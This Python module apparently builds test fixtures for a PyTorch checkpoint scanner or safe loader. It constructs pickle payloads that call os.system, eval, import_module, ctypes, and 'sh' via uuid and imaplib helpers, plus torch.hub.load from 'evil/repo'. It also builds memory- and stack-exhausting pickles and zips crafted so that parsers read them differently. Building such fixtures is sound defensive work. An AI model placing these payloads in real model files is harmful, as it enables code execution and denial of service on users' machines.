"""Bad PyTorch files, each built as bytes: what each is for is its function's name and docstring. Nothing here is ever
unpickled."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable, Sequence

MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
PROTOCOL = b"\x80\x02M\xe9\x03."
SYS_INFO = b"\x80\x02}(X\x10\x00\x00\x00protocol_versionM\xe9\x03X\x0d\x00\x00\x00little_endian\x88u."

Member = tuple[str, bytes]


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    data = value.to_bytes(9, "little", signed=True)
    return b"\x8a\x09" + data


def tensor(
    key: str = "0",
    numel: int = 4,
    shape: Sequence[int] = (4,),
    strides: Sequence[int] = (1,),
    offset: int = 0,
    storage: str = "torch\nFloatStorage",
    legacy: bool = False,
) -> bytes:
    """Opcodes that rebuild one tensor."""
    pid = (
        b"("
        + text("storage")
        + f"c{storage}\n".encode()
        + text(key)
        + text("cpu")
        + number(numel)
        + (b"N" if legacy else b"")
        + b"tQ"
    )
    sizes = b"".join(b"(" + b"".join(map(number, counts)) + b"t" for counts in (shape, strides))
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + number(offset) + sizes + b"\x89ccollections\nOrderedDict\n)RtR"


def state_dict(items: Iterable[tuple[str, bytes]], protocol: int = 2, frame: bytes = b"") -> bytes:
    """A pickled dict of opcodes by name."""
    return b"\x80" + bytes([protocol]) + frame + b"}(" + b"".join(text(name) + value for name, value in items) + b"u."


WEIGHT = struct.pack("<4f", 1, 2, 3, 4)
GOOD = state_dict([("weight", tensor())])


def archive(members: Sequence[Member], root: str = "model") -> bytes:
    """A zip of stored members, in order; names may repeat."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zip_:
        for name, data in members:
            zip_.writestr(zipfile.ZipInfo(f"{root}/{name}"), data)
    return out.getvalue()


def checkpoint(pickle: bytes = GOOD, storages: Sequence[Member] = (("data/0", WEIGHT),), more: Sequence[Member] = ()) -> bytes:
    """A zip checkpoint around ``pickle``."""
    return archive([("data.pkl", pickle), ("byteorder", b"little"), *storages, ("version", b"3\n"), *more])


def legacy(
    pickle: bytes, keys: Sequence[str] = ("0",), storages: Sequence[bytes] = (WEIGHT,), itemsize: int = 4, key_pickle: bytes = b""
) -> bytes:
    """A legacy checkpoint around ``pickle``, the fourth."""
    listed = key_pickle or b"\x80\x02](" + b"".join(map(text, keys)) + b"e."
    data = b"".join(struct.pack("<q", len(storage) // itemsize) + storage for storage in storages)
    return MAGIC + PROTOCOL + SYS_INFO + pickle + listed + data


# --- payloads: opcodes that call something ------------------------------------------------------------------------


def call(module: str, name: str, *arguments: str) -> bytes:
    """GLOBAL, arguments, REDUCE: what ``__reduce__`` pickles to."""
    return f"c{module}\n{name}\n(".encode() + b"".join(map(text, arguments)) + b"tR"


def with_payload(payload: bytes) -> bytes:
    """A good checkpoint whose dict also holds what ``payload`` makes."""
    return checkpoint(state_dict([("weight", tensor()), ("extra", payload)]))


def stack_global(module: str, name: str, *arguments: str) -> bytes:
    return text(module) + text(name) + b"\x93(" + b"".join(map(text, arguments)) + b"tR"


PAYLOADS = {
    "posix.system": call("posix", "system", "touch OWNED"),
    "builtins.eval": call("builtins", "eval", "1"),
    "builtins.getattr": call("builtins", "getattr", "a", "b"),
    "importlib.import_module": call("importlib", "import_module", "os"),
    "torch.hub.load": call("torch.hub", "load", "evil/repo", "model"),
    "torch.load": call("torch", "load", "other.pt"),
    "numpy.load": call("numpy", "load", "x.npy"),
    "joblib.load": call("joblib", "load", "x"),
    "pkgutil.resolve_name": call("pkgutil", "resolve_name", "os:system"),
    "timeit.timeit": call("timeit", "timeit", "1"),
    "ctypes.CDLL": call("ctypes", "CDLL", "x.so"),
    "uuid._get_command_stdout": call("uuid", "_get_command_stdout", "sh"),
    "imaplib.IMAP4_stream": call("imaplib", "IMAP4_stream", "sh"),
    "torch.storage._load_from_bytes": call("torch.storage", "_load_from_bytes", "x"),
    "torch.jit.unsupported_tensor_ops.execWrapper": call("torch.jit.unsupported_tensor_ops", "execWrapper", "x"),
    "operator.attrgetter": call("operator", "attrgetter", "system"),
}
"""What is called -> the opcodes that call it."""


def inst() -> bytes:
    return b"(" + text("touch OWNED") + b"ios\nsystem\n"


def obj() -> bytes:
    return b"(cos\nsystem\n" + text("touch OWNED") + b"o"


def text_protocol() -> bytes:
    """Protocol 0, nothing around it."""
    return b"cos\nsystem\n(S'touch OWNED'\ntR."


# --- pickles that hurt machines -----------------------------------------------------------------------------------


def deep_tuple_key(depth: int = 200_000) -> bytes:
    """A tuple of tuples of ... as the key of a dict: hashing it overruns CPython's stack."""
    return b"\x80\x02}" + b")" + b"\x85" * depth + b"K\x01s."


def deep_list(depth: int = 200_000) -> bytes:
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


def doubled_tuple(times: int = 64) -> bytes:
    """2^64 paths lead to one tensor."""
    return b"\x80\x02" + tensor() + b"q\x00h\x00\x86q\x00" + b"h\x00h\x00\x86q\x00" * times + b"."


def doubled_plain_key(times: int = 64) -> bytes:
    return b"\x80\x02})q\x00" + b"h\x00h\x00\x86q\x00" * times + b"K\x01s."


def huge_memo() -> bytes:
    """LONG_BINPUT 2^31 - 1: a memo that is an array takes 16 GiB."""
    return b"\x80\x02}r\xff\xff\xff\x7f."


def huge_frame() -> bytes:
    return state_dict([("weight", tensor())], 4, b"\x95" + struct.pack("<Q", 1 << 40))


def straddled_frame() -> bytes:
    """A frame that ends inside an opcode's argument."""
    return state_dict([("weight", tensor())], 4, b"\x95" + struct.pack("<Q", 5))


def huge_text() -> bytes:
    return b"\x80\x02X\xff\xff\xff\x7fabc."


def huge_integer() -> bytes:
    return b"\x80\x02\x8b\xff\xff\xff\x7f\x01."


# --- zips that readers disagree on --------------------------------------------------------------------------------


def duplicate_pickle() -> bytes:
    return checkpoint(more=[("data.pkl", state_dict([("other", tensor())]))])


def case_variant() -> bytes:
    return checkpoint(more=[("DATA.PKL", state_dict([("other", tensor())]))])


def patched(data: bytes, name: bytes, local: bool, at: int, new: bytes) -> bytes:
    """A zip with bytes of one member's local header or directory entry replaced. ``at`` counts from the header's signature."""
    signature, header = (b"PK\x03\x04", 30) if local else (b"PK\x01\x02", 46)
    place = -1
    while (place := data.find(signature, place + 1)) >= 0:
        if data[place + header : place + header + len(name)] == name:
            return data[: place + at] + new + data[place + at + len(new) :]
    raise AssertionError(f"no member {name!r}")


def bad_crc(member: bytes = b"model/data.pkl") -> bytes:
    data = checkpoint()
    for local, at in ((True, 14), (False, 16)):
        data = patched(data, member, local, at, b"\x01\x02\x03\x04")
    return data


def zero_crcs() -> bytes:
    data = checkpoint()
    for member in (b"model/data.pkl", b"model/data/0"):
        for local, at in ((True, 14), (False, 16)):
            data = patched(data, member, local, at, bytes(4))
    return data


def names_differ() -> bytes:
    return patched(checkpoint(), b"model/data/0", True, 30, b"model/data/1")


def sizes_differ() -> bytes:
    return patched(checkpoint(), b"model/data/0", True, 18, struct.pack("<2I", 8, 8))


def encrypted() -> bytes:
    data = checkpoint()
    return patched(patched(data, b"model/data/0", True, 6, b"\x01\0"), b"model/data/0", False, 8, b"\x01\0")


def overlapping() -> bytes:
    """The directory has the second storage's header where the first one's is."""
    pickle = state_dict([("a", tensor("0")), ("b", tensor("1"))])
    data = checkpoint(pickle, [("data/0", WEIGHT), ("data/1", WEIGHT)])
    first = data.find(b"PK\x03\x04", data.find(b"model/byteorder"))
    inner = archive([("data/1", WEIGHT)])[: 30 + 12 + 16]
    grown = checkpoint(pickle, [("data/0", inner), ("data/1", WEIGHT)])
    assert first > 0
    start = grown.find(inner)
    return patched(grown, b"model/data/1", False, 42, struct.pack("<I", start))


def prefixed() -> bytes:
    return b"PK\x03\x04 this is not a member " + checkpoint()


def followed() -> bytes:
    return checkpoint() + b"junk"


def cut() -> bytes:
    return checkpoint()[:-40]


# --- storages -----------------------------------------------------------------------------------------------------


def short_storage() -> bytes:
    return checkpoint(storages=[("data/0", WEIGHT[:-4])])


def long_storage() -> bytes:
    return checkpoint(storages=[("data/0", WEIGHT + bytes(4))])


def lost_storage() -> bytes:
    return checkpoint(storages=[])


def stride_beyond() -> bytes:
    return checkpoint(state_dict([("weight", tensor(shape=(2, 2), strides=(3, 1)))]))


def offset_beyond() -> bytes:
    return checkpoint(state_dict([("weight", tensor(offset=1))]))


def negative_stride() -> bytes:
    return checkpoint(state_dict([("weight", tensor(strides=(-1,), offset=3))]))


def overflowing_shape() -> bytes:
    return checkpoint(state_dict([("weight", tensor(shape=(1 << 62, 1 << 62), strides=(0, 0)))]))


def legacy_short() -> bytes:
    return legacy(state_dict([("weight", tensor(legacy=True))]))[:-4]


def legacy_count() -> bytes:
    """The storage's own count is not what the pickle says."""
    return legacy(state_dict([("weight", tensor(legacy=True))]), storages=[WEIGHT[:8]])


# --- byte order, other containers ---------------------------------------------------------------------------------


def byte_order(order: bytes) -> bytes:
    swapped = struct.pack(">4f", 1, 2, 3, 4)
    return archive([("data.pkl", GOOD), ("byteorder", order), ("data/0", swapped), ("version", b"3\n")])


def deflated() -> bytes:
    """Honest, if unusual: the members are compressed."""
    out = io.BytesIO()
    pickle = state_dict(
        [("weight", tensor()), ("half", tensor(shape=(2,), offset=2)), ("even", tensor(shape=(2,), strides=(2,)))]
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zip_:
        for name, data in (("data.pkl", pickle), ("data/0", WEIGHT), ("version", b"3\n")):
            zip_.writestr(f"model/{name}", data)
    return out.getvalue()


def tar() -> bytes:
    """The layout of before 0.1.10."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar_:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(name)
            info.size = 4
            tar_.addfile(info, io.BytesIO(b"\x80\x02N."))
    return out.getvalue()


def gzipped() -> bytes:
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(GOOD)[2:-4]


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(56)
